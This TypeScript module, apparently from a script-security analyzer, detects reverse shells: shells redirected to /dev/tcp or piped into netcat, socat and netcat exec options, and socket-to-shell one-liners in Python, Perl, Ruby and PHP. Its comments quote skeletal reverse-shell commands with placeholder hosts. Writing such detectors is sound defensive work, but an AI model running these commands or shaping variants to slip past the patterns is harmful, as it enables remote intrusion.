import { POSIX_SHELLS } from "../../knowledge/wrappers.ts";
import { remembered } from "../../memo.ts";
import type { ShellCommand, ShellRedirect } from "../../shell/model.ts";
import { comparable } from "../../shell/words.ts";
import type { Step } from "../model/model.ts";
import { stepText } from "../model/stepText.ts";
import { commandsOf } from "./scripts.ts";

/** Whether a command hands a shell to another machine, or runs what comes from there. */
export function givesShell(step: Step, command: ShellCommand, texts: readonly string[]): boolean {
	const { program = "" } = command;
	if (POSIX_SHELLS.has(program))
		return (
			((command.redirects.some(leadsToNetwork) || isPipedOut(command)) &&
				texts.some((text) => /^-[a-z]*i/.test(text)) &&
				!texts.some((text) => /^-[a-z]*c$/.test(text))) ||
			(readsDescriptor(command, texts) && connectedShells(step).has(command))
		);
	if (program === "socat")
		return (
			texts.some((text) => /^(?:tcp|udp|openssl)/i.test(text)) &&
			texts.some((text) => /^(?:exec|system):["']?(?:\/\S*\/)?(?:ba|da|z)?sh(?:\s+-[a-z]+)*["']?(?:,.*)?$/i.test(text))
		);
	if (SCRIPTED.test(program)) return texts.some(isSocketShell);
	if (!NETCATS.test(program)) return false;
	const at = texts.findIndex((text) => /^-[a-zA-Z]*[ec]$|^--(?:sh-)?exec$/.test(text));
	return at !== -1 && /(?:^|\/)(?:ba|da|a|z)?sh\b|cmd(?:\.exe)?$|powershell/.test(texts[at + 1] ?? "");
}

const NETCATS = /^(?:nc|ncat|netcat|nc\.traditional)$/;

/** `sh -i 2>&1 | nc HOST PORT`. */
function isPipedOut(command: ShellCommand): boolean {
	const members = command.pipeline?.commands ?? [];
	return NETCATS.test(members[members.indexOf(command) + 1]?.program ?? "");
}

function leadsToNetwork({ target }: ShellRedirect): boolean {
	return target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(comparable(target));
}

function readsDescriptor({ redirects }: ShellCommand, texts: readonly string[]): boolean {
	return redirects.some(({ operator }) => operator === "<&") && texts.every((text) => /^-[a-bd-z]+$/.test(text));
}

/** `exec 5<>/dev/tcp/HOST/PORT; sh <&5 >&5`: the shells of a step that read what another machine says. */
const connectedShells = remembered((step: Step): ReadonlySet<ShellCommand> => {
	const shells = new Set<ShellCommand>();
	if (!/\/dev\/(?:tcp|udp)\//.test(stepText(step))) return shells;
	const connected = new Set<string>();
	for (const command of commandsOf(step)) {
		for (const redirect of command.redirects) {
			const { fileDescriptor, operator, target } = redirect;
			if (fileDescriptor !== undefined && leadsToNetwork(redirect)) connected.add(String(fileDescriptor));
			if (operator === "<&" && connected.has(target?.value ?? "")) shells.add(command);
		}
	}
	return shells;
});

/** Interpreters for which there are well-known lines of this kind. */
const SCRIPTED = /^(?:python|perl|ruby|php)[0-9.]*$/;

/** What such lines have, each of it: a connection that becomes the standard input of a shell. */
const SOCKET_SHELLS: readonly (readonly RegExp[])[] = [
	[/\bsocket\b/, /\bconnect\b/, /\bdup2\b/, /["'](?:\/bin\/)?(?:ba|da|z)?sh\b/],
	[/\bSocket\b/, /\bconnect\b/, /\bopen\(STDIN,/, /\bexec\b[^;]{0,20}\bsh\b/],
	[/\bIO::Socket\b/, /\bSTDIN->fdopen\b/, /\bsystem\b/],
	[/\b(?:fsockopen|TCPSocket)\b/, /\bsh -i <&/],
];

function isSocketShell(text: string): boolean {
	return SOCKET_SHELLS.some((parts) => parts.every((part) => part.test(text)));
}
